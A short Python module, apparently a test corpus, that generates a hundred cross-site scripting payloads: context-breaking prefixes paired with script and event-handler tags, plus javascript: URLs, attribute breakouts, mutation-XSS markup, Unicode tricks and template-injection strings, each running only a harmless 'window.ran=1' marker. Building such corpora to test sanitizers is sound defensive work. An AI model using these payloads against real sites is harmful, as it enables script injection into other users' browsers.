"""A hundred texts that would run in a browser if a page took them for markup."""

from __future__ import annotations

_CALL = "window.ran=1"
_OPENERS = ("", '">', "'>", "</title>", "</script>", "-->", "</textarea>", "]]>", "</svg>", "`>")
_ELEMENTS = (
    f"<script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<body onpageshow={_CALL}>",
)
_OTHERS = (
    f"javascript:{_CALL}",
    f'" onmouseover={_CALL} x="',
    f"' autofocus onfocus={_CALL} x='",
    f"{{{{{_CALL}}}}}",
    "{% for x in () %}{{ x }}",
    "${window.ran=1}",
    f"\u2028</script><script>{_CALL}//",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"<ScRiPt >{_CALL}</sCrIpT >",
    f"<<script>{_CALL}//<</script>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<object data='data:text/html,<script>{_CALL}</script>'>",
    f"<embed src=javascript:{_CALL}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<base href=javascript:{_CALL}//>",
    f"<form action=javascript:{_CALL}><button>x</button></form>",
    f"\ufeff<script>{_CALL}</script>",
    f"\u202e<script>{_CALL}</script>",
    f'{{"@context": "</script><script>{_CALL}</script>"}}',
)
PAYLOADS = (*(opener + element for opener in _OPENERS for element in _ELEMENTS), *_OTHERS)
